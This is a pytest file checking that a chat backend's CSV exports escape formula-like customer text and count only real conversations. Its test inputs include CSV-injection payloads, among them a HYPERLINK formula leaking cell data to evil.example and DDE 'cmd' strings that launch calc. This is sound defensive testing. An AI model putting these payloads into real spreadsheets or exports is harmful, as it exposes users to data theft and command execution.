"""The admins' CSV exports open in a spreadsheet: what customers wrote must stay text there, never a formula."""
from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, datetime, timedelta

from api.office.export import messages_csv, ratings_csv
from api.office.insights import Period, analytics
from api.storage.models import Conversation, ConversationState, Message, Rating, Sender

STARTED = datetime(2026, 11, 2, 9, 0, tzinfo=UTC)
PERIOD = Period(since=STARTED - timedelta(hours=1), until=STARTED + timedelta(hours=1))
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+420 123 456", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]
PLAIN = ["Dobrý den, kde je můj balík?", "Zamówienie 12-34 (numer) = ok"]


async def _conversation_with(sessions, texts: list[str], comment: str) -> None:  # type: ignore[no-untyped-def]
    async with sessions() as session:
        conversation = Conversation(token_hash="x" * 64, language="cs", state=ConversationState.bot, created_at=STARTED)
        session.add(conversation)
        await session.flush()
        session.add_all(Message(conversation_id=conversation.id, sender=Sender.customer, text=text, language="cs", created_at=STARTED)
                        for text in texts)
        session.add(Rating(conversation_id=conversation.id, score=1, comment=comment))
        await session.commit()


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_exported_as_text(sessions) -> None:  # type: ignore[no-untyped-def]
    async def exported() -> tuple[str, str]:
        await _conversation_with(sessions, FORMULAS + PLAIN, comment="=HYPERLINK(\"http://evil.example\")")
        async with sessions() as session:
            return await messages_csv(session, PERIOD), await ratings_csv(session, PERIOD)

    messages, ratings = asyncio.run(exported())
    texts = [row["text"] for row in csv.DictReader(io.StringIO(messages))]
    assert texts == [f"'{text}" for text in FORMULAS] + PLAIN  # a leading quote: the spreadsheet shows the text as written
    comments = [row["comment"] for row in csv.DictReader(io.StringIO(ratings))]
    assert comments == ["'=HYPERLINK(\"http://evil.example\")"]
    assert [row["score"] for row in csv.DictReader(io.StringIO(ratings))] == ["1"]  # numbers stay numbers


def test_the_export_holds_the_conversations_analytics_counts(sessions) -> None:  # type: ignore[no-untyped-def]
    """A widget opened and greeted, where the customer never wrote, is no chat: neither counted nor exported."""
    async def both() -> tuple[str, int]:
        await _conversation_with(sessions, PLAIN, comment="ok")
        async with sessions() as session:
            opened = Conversation(token_hash="y" * 64, language="cs", state=ConversationState.bot, created_at=STARTED)
            session.add(opened)
            await session.flush()
            session.add(Message(conversation_id=opened.id, sender=Sender.bot, text="Dobrý den, jak vám mohu pomoci?", language="cs",
                                created_at=STARTED))
            await session.commit()
        async with sessions() as session:
            return await messages_csv(session, PERIOD), (await analytics(session, PERIOD)).total.conversations

    messages, counted = asyncio.run(both())
    exported = {row["conversation_id"] for row in csv.DictReader(io.StringIO(messages))}
    assert counted == len(exported) == 1
